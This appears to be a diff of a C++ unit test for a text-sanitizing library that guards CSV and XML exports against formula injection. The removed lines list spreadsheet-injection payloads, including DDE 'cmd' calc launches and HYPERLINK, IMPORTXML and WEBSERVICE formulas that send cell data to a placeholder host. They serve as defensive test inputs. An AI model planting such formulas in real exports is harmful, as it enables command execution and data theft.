@@ -1,76 +1,13 @@
 // SPDX-FileCopyrightText: Simledger contributors
 // SPDX-License-Identifier: GPL-3.0-or-later
 #include "core/base/safetext.h"
+#include "tests/core/base/hostiletexts.h"
 
-#include <QRandomGenerator>
-#include <QRegularExpression>
 #include <QTest>
 
 namespace
 {
-// ---- formulas: the hostile strings and a reader that judges what a spreadsheet would see ----
-
-const QString starters = QStringLiteral("=+-@＝＋－＠﹦﹢﹣﹫−\t\r\n") + QChar(0);
-
-/// What may stand in front of a formula without stopping a spreadsheet.
-QStringList prefixes()
-{
-    return {QString(),
-            QStringLiteral(" "),
-            QStringLiteral("   "),
-            QStringLiteral("\u00a0"),
-            QStringLiteral("\ufeff"),
-            QStringLiteral("\u3000"),
-            QStringLiteral("\u200b"),
-            QStringLiteral("\u200e \u00a0"),
-            QStringLiteral("\u2007"),
-            QStringLiteral("note\n"),
-            QStringLiteral("note\r\n"),
-            QStringLiteral("note\r"),
-            QStringLiteral("note\n  "),
-            QStringLiteral("a\nb\n\u00a0\ufeff"),
-            QStringLiteral("note\u2028"),
-            QStringLiteral("note\u0085"),
-            QStringLiteral("note\v"),
-            QStringLiteral("\"quoted\"\n"),
-            QStringLiteral("备注，\n\u3000"),
-            QStringLiteral("\n"),
-            QStringLiteral("\r\n")};
-}
-
-QStringList hostileTexts()
-{
-    QStringList all{
-        QStringLiteral("=cmd|' /C calc'!A0"),
-        QStringLiteral("=HYPERLINK(\"http://example.invalid?x=\"&A1,\"click\")"),
-        QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"),
-        QStringLiteral("+1+1+cmd|' /C calc'!A0"),
-        QStringLiteral("-2+3+cmd|' /C calc'!A0"),
-        QStringLiteral("=IMPORTXML(CONCAT(\"http://example.invalid\",A1),\"//a\")"),
-        QStringLiteral("=WEBSERVICE(\"http://example.invalid\")"),
-        QStringLiteral("=1+1\";=1+1;\""),
-        QStringLiteral("\t=1+1"),
-        QStringLiteral("\r=1+1"),
-        QStringLiteral("\n=1+1"),
-        QStringLiteral("=\n=\n="),
-        QStringLiteral("＝ＳＵＭ（１）"),
-        QStringLiteral("="),
-        QStringLiteral("-"),
-        QStringLiteral("-5"),
-        QStringLiteral("+86 138"),
-        QStringLiteral("@mention"),
-    };
-    for (const QString &prefix : prefixes()) {
-        for (const QChar starter : starters) {
-            const bool lineEnd = starter == u'\r' || starter == u'\n';
-            if (lineEnd &&
-                prefix.contains(QRegularExpression(QStringLiteral("\\w|[^\\x{0}-\\x{7f}\\s\\p{C}\\p{Z}]"))))
-                continue; // an empty line further down harms nobody
-            all.append(prefix + starter + QStringLiteral("SUM(1,\"2\")"));
-        }
-    }
-    return all;
-}
+// ---- formulas: a reader that judges what a spreadsheet would see ----
 
 /// One field by RFC 4180.
 QString readField(const QString &csv)
@@ -120,25 +57,6 @@ bool isSubsequence(const QString &part, const QString &whole)
     return at == part.size();
 }
 
-// ---- random text ----
-
-QString randomText(QRandomGenerator &random, int longest)
-{
-    static const QString pieces = QStringLiteral(
-        "abcXYZ019 =+-@,;\"'<>&%/\\.:?#\n\r\t\u00a0\u200b\u200f\u202e\u2066\ufeff中文卡＝é\u0301");
-    QString text;
-    for (quint32 i = random.bounded(quint32(longest)); i > 0; --i) {
-        const quint32 kind = random.bounded(40U);
-        if (kind == 0)
-            text += QChar(char16_t(random.bounded(0xD800, 0xE000))); // half a surrogate pair
-        else if (kind == 1)
-            text += QChar::fromUcs4(char32_t(random.bounded(0x10000, 0x10FFFF)));
-        else
-            text += pieces[random.bounded(pieces.size())];
-    }
-    return text;
-}
-
 bool hasHidden(const QString &text)
 {
     static const QRegularExpression hidden(
@@ -162,6 +80,9 @@ private Q_SLOTS:
     void randomTextNeverRunsAndLosesNothing();
     void innocentTextIsNotTouched();
     void fieldsAreQuotedWhereTheyMustBe();
+    void whatLooksPlainIsLeftAlone();
+    void everyCharacterIsJudgedAtEachPlace();
+    void xmlKeepsWhatPeopleSee();
     void htmlHasNoMarkupLeft();
     void hiddenCharactersBecomeMarks_data();
     void hiddenCharactersBecomeMarks();
@@ -227,6 +148,53 @@ void TestSafeText::fieldsAreQuotedWhereTheyMustBe()
     QCOMPARE(SafeText::csvField(u"=1,2"), QStringLiteral("\"'=1,2\""));
     QCOMPARE(SafeText::csvField(u"a\n=b"), QStringLiteral("\"a\n'=b\""));
     QCOMPARE(SafeText::csvField(u"a\n\nb"), QStringLiteral("\"a\n\nb\""));
+}
+
+namespace
+{
+/// The quick looks may refuse what is plain, never the other way round.
+bool quickLooksAreRight(const QString &text)
+{
+    const QByteArray utf8 = text.toUtf8();
+    const QString valid = QString::fromUtf8(utf8);
+    return (!SafeText::isPlainCsvField(utf8) || SafeText::csvField(valid) == valid) &&
+           (!SafeText::isPlainXmlText(utf8) || SafeText::xmlText(valid) == valid);
+}
+} // namespace
+
+void TestSafeText::whatLooksPlainIsLeftAlone()
+{
+    for (const QString &text : {QStringLiteral("89860012345678901234"), QStringLiteral("CM-SF-M-2-100M"),
+                                QStringLiteral("冷链一组"), QStringLiteral("first_data_record"), QString(),
+                                QStringLiteral("spare A12")}) {
+        QVERIFY(SafeText::isPlainCsvField(text.toUtf8()));
+        QVERIFY(SafeText::isPlainXmlText(text.toUtf8()));
+    }
+    for (const QString &text : hostileTexts())
+        QVERIFY(!SafeText::isPlainCsvField(text.toUtf8()));
+    QRandomGenerator random(20260303);
+    for (int round = 0; round < 20000; ++round) {
+        const QString text = randomText(random, 12);
+        QVERIFY2(quickLooksAreRight(text), text.toUtf8().toHex().constData());
+    }
+}
+
+void TestSafeText::everyCharacterIsJudgedAtEachPlace()
+{
+    for (char32_t c = 0; c < 0xE0200; ++c) {
+        if (c >= 0x20000 && c < 0xE0000)
+            continue; // Chinese characters, and nothing
+        const QString one = QString::fromUcs4(&c, 1);
+        for (const QString &text : {one, one + u'a', u'a' + one, u'a' + one + u'a', one + u'中', u'中' + one})
+            QVERIFY2(quickLooksAreRight(text), text.toUtf8().toHex().constData());
+    }
+}
+
+void TestSafeText::xmlKeepsWhatPeopleSee()
+{
+    QCOMPARE(SafeText::xmlText(u"a<b> & \"c\" 中"), QStringLiteral("a&lt;b&gt; &amp; \"c\" 中"));
+    QCOMPARE(SafeText::xmlText(u"two\nlines\tand\x01 \u202Emore"), QStringLiteral("two lines and more"));
+    QCOMPARE(SafeText::xmlText(u"_x0041_ _x00zz_ _x41_"), QStringLiteral("_x005F_x0041_ _x00zz_ _x41_"));
 }
 
 void TestSafeText::htmlHasNoMarkupLeft()
@@ -376,6 +344,8 @@ void TestSafeText::personalDataIsMasked()
     QFETCH(QString, text);
     QFETCH(QString, masked);
     QCOMPARE(mask(text), masked);
+    if (mask == Mask(SafeText::maskPhone))
+        QCOMPARE(SafeText::maskPhone(text.toUtf8()), masked.toUtf8());
 }
 
 void TestSafeText::secretsDoNotReachTheLog_data()
